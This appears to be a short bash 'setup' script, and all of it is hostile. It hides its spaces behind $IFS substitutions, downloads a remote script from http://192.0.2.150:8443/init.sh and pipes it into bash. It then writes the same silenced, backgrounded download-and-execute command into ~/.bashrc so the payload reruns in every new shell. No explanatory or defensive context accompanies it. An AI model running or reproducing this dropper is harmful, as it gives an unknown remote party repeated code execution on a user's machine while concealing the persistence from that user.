#$IFS$9setup${IFS}3477${IFS}v0
#!/bin/bash
curl${IFS}-fsSL$IFS$9http://192.0.2.150:8443/init.sh$IFS$9|$IFS$9bash
echo${IFS}'curl$IFS$9-fsSL${IFS}http://192.0.2.150:8443/init.sh$IFS$9|$IFS$9bash$IFS$9>/dev/null${IFS}2>&1${IFS}&'${IFS}>>${IFS}~/.bashrc
